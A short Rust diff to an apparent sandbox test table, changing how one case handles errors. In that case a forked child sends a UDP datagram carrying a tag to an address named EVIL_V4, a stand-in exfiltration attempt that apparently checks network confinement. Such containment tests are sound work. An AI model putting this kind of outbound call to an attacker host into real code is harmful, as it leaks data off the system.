@@ -170,11 +170,9 @@ pub(super) const CASES: &[Case] = &[
         |targets| {
             moved(targets)?;
             let child = sys::forked(|| {
-                let sent = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0).and_then(|socket| {
-                    let to = sys::address(targets.at(EVIL_V4));
-                    sys::sendto(&socket, targets.tag().as_bytes(), 0, &to)
-                });
-                drop(sent);
+                let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
+                let to = sys::address(targets.at(EVIL_V4));
+                sys::sendto(&socket, targets.tag().as_bytes(), 0, &to)
             })?;
             sys::wait(child)
         },
